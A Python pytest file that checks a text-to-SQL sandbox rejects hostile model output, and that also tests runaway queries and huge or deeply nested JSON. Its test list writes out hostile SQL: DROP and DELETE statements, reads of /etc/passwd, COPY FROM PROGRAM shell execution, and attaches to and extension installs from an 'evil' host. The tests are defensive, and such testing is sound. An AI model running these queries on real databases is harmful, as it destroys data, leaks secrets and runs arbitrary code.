"""Hostile model output: SQL that writes, attaches, copies out, installs, reads files or runs forever; JSON
that is huge or nested 10^5 deep. Nothing succeeds, the fixture is unchanged, each is scored with a reason."""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from _reliability import BADINPUT, run_main

from expertkit.core.reasoning import analyze_output
from expertkit.engines.sql.sandbox import close_connections, execute_unchecked, run_query
from expertkit.expert import Expert
from expertkit.kinds import kind_class

REPO = Path(__file__).resolve().parents[1]
OUT = "{out}"  # replaced by a folder that must stay empty

#: SQL a model could produce that must not run: (what it tries, the query).
HOSTILE_SQL: list[tuple[str, str]] = [
    ("write", "DROP TABLE authors"),
    ("write", "DELETE FROM authors"),
    ("write", "UPDATE authors SET name = 'x'"),
    ("write", "INSERT INTO authors (id, name) VALUES (99, 'x')"),
    ("write", "CREATE TABLE stolen AS SELECT * FROM authors"),
    ("write", "ALTER TABLE authors ADD COLUMN z INT"),
    ("write", "TRUNCATE authors"),
    ("write", "SELECT * INTO backup FROM authors"),
    ("write", "WITH gone AS (DELETE FROM authors RETURNING *) SELECT count(*) FROM gone"),
    ("write", "SELECT count(*) FROM authors; DROP TABLE authors"),
    ("write", "select * from AUTHORS;\ndrop table AUTHORS"),
    ("attach", f"ATTACH '{OUT}/other.db' AS other"),
    ("attach", f"ATTACH '{OUT}/other.db' AS other; SELECT 1"),
    ("attach", "SELECT * FROM sqlite_scan('/etc/passwd.db', 't')"),
    ("attach", "SELECT * FROM postgres_query('host=evil', 'SELECT 1')"),
    ("attach", "SELECT * FROM dblink('host=evil', 'SELECT 1')"),
    ("copy out", f"COPY authors TO '{OUT}/dump.csv'"),
    ("copy out", f"COPY (SELECT * FROM authors) TO '{OUT}/dump.parquet' (FORMAT parquet)"),
    ("copy out", f"EXPORT DATABASE '{OUT}/export'"),
    ("copy out", f"COPY authors FROM PROGRAM 'touch {OUT}/pwned'"),
    ("copy out", f"SELECT lo_export(1, '{OUT}/pwned')"),
    ("extension", "INSTALL httpfs"),
    ("extension", "FORCE INSTALL httpfs"),
    ("extension", "LOAD httpfs"),
    ("extension", "INSTALL evil FROM 'http://example.com/evil'"),
    ("extension", "SELECT load_extension('evil')"),
    ("settings", "SET enable_external_access = true"),
    ("settings", "RESET ALL"),
    ("settings", "PRAGMA enable_profiling"),
    ("settings", "CALL pragma_version()"),
    ("settings", "SELECT * FROM duckdb_secrets()"),
    ("read files", "SELECT * FROM read_csv('/etc/passwd')"),
    ("read files", "SELECT * FROM read_csv_auto('/etc/passwd')"),
    ("read files", "SELECT * FROM '/etc/passwd'"),
    ("read files", "SELECT * FROM read_text('/etc/passwd')"),
    ("read files", "SELECT * FROM read_blob('/etc/hostname')"),
    ("read files", "SELECT * FROM read_json('/etc/os-release')"),
    ("read files", "SELECT * FROM read_parquet('/tmp/x.parquet')"),
    ("read files", "SELECT * FROM parquet_scan('/tmp/x.parquet')"),
    ("read files", "SELECT * FROM glob('/*')"),
    ("read files", "SELECT * FROM 'https://example.com/data.csv'"),
    ("read files", "SELECT pg_read_file('/etc/passwd')"),
    ("read files", "SELECT * FROM pg_ls_dir('/')"),
    ("read files", "SELECT lo_import('/etc/passwd')"),
    ("read files", "SELECT getenv('HOME')"),
    ("read files", "SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')"),
    ("read files", "SELECT * FROM authors WHERE name IN (SELECT column0 FROM read_csv('/etc/passwd'))"),
    ("session", "BEGIN"),
    ("session", "USE memory"),
    ("session", "PREPARE p AS SELECT 1"),
    ("session", "EXPLAIN ANALYZE SELECT * FROM authors"),
    ("session", "DETACH authors"),
    ("session", "CHECKPOINT"),
    ("session", "VACUUM"),
]
#: Read-only queries that would run forever or exhaust memory: refused by the sandbox's limits.
RUNAWAY_SQL: list[str] = [
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
    "SELECT count(*) FROM authors a1, authors a2, authors a3, authors a4, authors a5, authors a6, authors a7, "
    "authors a8, authors a9",
    "SELECT count(*) FROM range(1000000000000)",
    "SELECT * FROM generate_series(1, 100000000)",
    "SELECT length(string_agg(repeat('x', 1000000), '')) FROM generate_series(1, 100000)",
]
GOLD = "SELECT count(*) FROM authors"


@pytest.fixture(scope="module")
def sql(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The shipped SQL expert, the library fixture (built in a private cache) and an output folder."""
    out = tmp_path_factory.mktemp("must-stay-empty")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EXPERTKIT_CACHE", str(tmp_path_factory.mktemp("cache")))
        expert = Expert.load(REPO / "experts" / "sql")
        schema = (REPO / "experts" / "sql" / "schemas" / "library.sql").read_text()
        fields = expert.contract.normalize({"Dialect": "postgres", "Task": "text_to_sql", "Schema": schema})
        duck = expert.validator.fixture_db(fields["Schema"], {**fields, "Dialect": "duckdb"})  # the DuckDB sandbox
        assert duck is not None
        db = Path(duck.location)
        digest = hashlib.sha256(db.read_bytes()).hexdigest()
        yield {"expert": expert, "fields": fields, "db": db, "digest": digest, "out": out}
    close_connections()


def _unchanged(sql: dict[str, Any]) -> None:
    assert hashlib.sha256(sql["db"].read_bytes()).hexdigest() == sql["digest"]
    assert list(sql["out"].iterdir()) == []
    assert sorted(p.name for p in sql["db"].parent.iterdir()) == [sql["db"].name]  # no wal, no temp files


def test_gold_runs_on_the_fixture(sql: dict[str, Any]) -> None:
    result = run_query(sql["db"], GOLD)
    assert result.ok and result.rows[0][0] > 0
    assert sql["expert"].validator.execution_match(GOLD, GOLD, sql["fields"]) is True


@pytest.mark.parametrize(("attempt", "query"), HOSTILE_SQL, ids=[f"{a}-{i}" for i, (a, _) in enumerate(HOSTILE_SQL)])
def test_hostile_sql_is_invalid_and_never_runs(sql: dict[str, Any], attempt: str, query: str) -> None:
    query = query.replace(OUT, str(sql["out"]))
    validator, fields = sql["expert"].validator, sql["fields"]
    verdict = validator.validate(query, fields)
    assert not verdict.valid and verdict.errors and all(e.strip() for e in verdict.errors), verdict
    assert validator.execution_match(query, GOLD, fields) is False
    refused = run_query(sql["db"], query)
    assert not refused.ok and refused.error
    # the engine alone (no statement checks) may run a harmless statement, but changes and reads nothing
    engine = execute_unchecked(sql["db"], query, timeout_s=1.0)
    if attempt in ("write", "attach", "copy out", "extension", "read files"):
        assert not engine.ok, (query, engine.rows)
    _unchanged(sql)


@pytest.mark.parametrize("query", RUNAWAY_SQL)
def test_runaway_sql_is_stopped_with_a_reason(sql: dict[str, Any], query: str) -> None:
    t0 = time.perf_counter()
    result = run_query(sql["db"], query, timeout_s=0.5)
    assert time.perf_counter() - t0 < 5
    assert not result.ok
    assert any(reason in (result.error or "") for reason in ("timed out", "more than", "memory", "Out of Memory")), \
        result.error
    _unchanged(sql)


def test_runaway_sql_scores_no_execution_match(sql: dict[str, Any]) -> None:
    validator, fields = sql["expert"].validator, sql["fields"]
    t0 = time.perf_counter()
    assert validator.execution_match(RUNAWAY_SQL[0], GOLD, fields) is False
    assert time.perf_counter() - t0 < 3.8  # one 2 s time limit, not one per dialect rewrite
    _unchanged(sql)


# ---------------------------------------------------------------------- huge and deeply nested JSON
BIG = 50 * 1024 * 1024
DEEP = 100_000


def _huge_and_deep() -> dict[str, str]:
    return {
        "50 MB object": '{"query": {"match": {"message": "' + "y" * BIG + '"}}}',
        "50 MB array": "[" + ",".join(["1"] * (BIG // 2)) + "]",
        "10^5 nested objects": '{"query":' * DEEP + "1" + "}" * DEEP,
        "10^5 nested arrays": "[" * DEEP + "]" * DEEP,
        "10^5 unclosed objects": '{"a":' * DEEP,
    }


HUGE_JSON_CASES = sorted(_huge_and_deep())


@pytest.fixture(scope="module")
def huge() -> dict[str, str]:
    return _huge_and_deep()


@pytest.fixture(scope="module")
def validators() -> dict[str, Any]:
    elastic = Expert.load(REPO / "experts" / "elastic")
    plain = Expert.load(BADINPUT / "expert")
    return {"elastic_dsl": (elastic.validator, {"Dialect": "elastic", "Task": "query_dsl",
                                                "Index": "kibana_sample_data_logs"}),
            "json": (plain.validator, {"Dialect": "json", "Task": "extract"})}


@pytest.mark.parametrize("case", HUGE_JSON_CASES)
def test_huge_and_deep_json_is_rejected_quickly(case: str, huge: dict[str, str], validators: dict[str, Any]) -> None:
    text = huge[case]
    for kind in ("json", "elastic_dsl", "sql"):
        t0 = time.perf_counter()
        analysis = analyze_output(text, kind_class(kind))
        assert time.perf_counter() - t0 < 2, (kind, "analyze_output is slow")
        assert analysis.kind is None and analysis.answer == text.strip()
    for kind, (validator, fields) in validators.items():
        t0 = time.perf_counter()
        result = validator.validate(text, fields)
        assert time.perf_counter() - t0 < 2, (kind, "validate is slow")
        assert not result.valid
        assert any(r in result.errors[0] for r in ("nested too deeply", "character limit", "not valid JSON")), result
        assert validator.equivalent(text, text, fields) is False


LINT_CASES = ["50 MB answer", "3 MB answer", "10^5 nested answer", "10^5 nested record"]


@pytest.mark.parametrize("case", LINT_CASES)
def test_lint_rejects_huge_and_deep_answers_without_crashing(case: str, tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str],
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    expert_dir = BADINPUT / "expert"
    system = {"role": "system", "content": "Dialect: json\nTask: extract"}
    answer = {"50 MB answer": json.dumps({"notes": "z" * BIG}), "3 MB answer": json.dumps({"notes": "z" * 3_000_000}),
              "10^5 nested answer": "[" * DEEP + "]" * DEEP}.get(case)
    data = tmp_path / "data.jsonl"
    if answer is not None:  # the answer is a string holding the hostile JSON: a record-level finding
        data.write_text(json.dumps({"messages": [system, {"role": "user", "content": "q"},
                                                 {"role": "assistant", "content": answer}]}) + "\n")
    else:  # the record itself nests too deeply: a parse_error finding at its line
        data.write_text('{"messages": ' + "[" * DEEP + "]" * DEEP + "}\n")
    t0 = time.perf_counter()
    result = run_main(["lint", expert_dir, "--data", data, "--json"], capsys, monkeypatch)
    assert time.perf_counter() - t0 < 10
    assert result.code == 1, result.stderr
    findings = json.loads(result.stdout)["reports"][0]["findings"]
    codes = {f["code"] for f in findings}
    if case == "50 MB answer":  # a line over the size limit: a parse_error at its line
        assert [(f["line"], f["code"]) for f in findings] == [(1, "parse_error")]
        assert "-byte limit" in findings[0]["message"]
        return
    if answer is None:
        assert [(f["line"], f["code"]) for f in findings] == [(1, "parse_error")]
        assert "nested too deeply" in findings[0]["message"]
        return
    assert "invalid_answer" in codes or "too_long" in codes, findings
